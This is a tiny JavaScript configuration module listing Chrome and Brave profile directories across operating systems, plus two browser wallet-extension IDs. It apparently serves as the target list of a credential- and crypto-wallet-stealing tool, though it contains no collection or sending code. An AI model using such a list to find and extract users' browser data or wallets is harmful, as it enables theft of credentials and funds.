module.exports = {
  browsers: ['.config/google-chrome', 'Library/Application Support/Google/Chrome', 'AppData/Local/BraveSoftware/Brave-Browser/User Data'],
  wallets: ['nkbihfbeogaeaoehlefnkodbefgpgknn', 'bfnaelmomeimhlpmgjnjophhpkkoljpa'],
};
